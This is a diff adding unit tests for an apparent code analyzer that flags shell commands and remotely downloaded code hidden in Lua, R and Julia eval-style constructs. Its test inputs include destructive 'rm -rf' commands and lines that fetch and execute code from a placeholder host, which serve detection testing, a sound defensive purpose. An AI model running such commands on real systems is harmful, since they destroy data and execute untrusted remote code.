@@ -73,6 +73,17 @@ describe("analyzeInterpreterCode", () => {
   });
 });
 
+describe("code compiled from a string in Lua, R and Julia", () => {
+  it("reads the string as code, and a downloaded one as network code", () => {
+    expect(analyzeInterpreterCode("lua", "load(\"os.execute('rm -rf /tmp/x')\")()").shell).toEqual(["rm -rf /tmp/x"]);
+    expect(analyzeInterpreterCode("r", "eval(parse(text = \"system('ls')\"))").shell).toEqual(["ls"]);
+    expect(analyzeInterpreterCode("julia", "eval(Meta.parse(read(download(\"https://x.example/a.jl\"), String)))").networkCode).toBe(true);
+    expect(analyzeInterpreterCode("r", "source(url('https://x.example/a.R'))").networkCode).toBe(true);
+    expect(analyzeInterpreterCode("julia", "println(eval(1 + 2))").dynamicShell).toBe(false);
+    expect(analyzeInterpreterCode("r", "source('R/setup.R')").networkCode).toBe(false);
+  });
+});
+
 describe("evaluateExpression", () => {
   it("joins literals and reads lists", () => {
     expect(evaluateExpression("'rm ' + \"-rf /\"", "python")).toEqual({ kind: "string", value: "rm -rf /" });
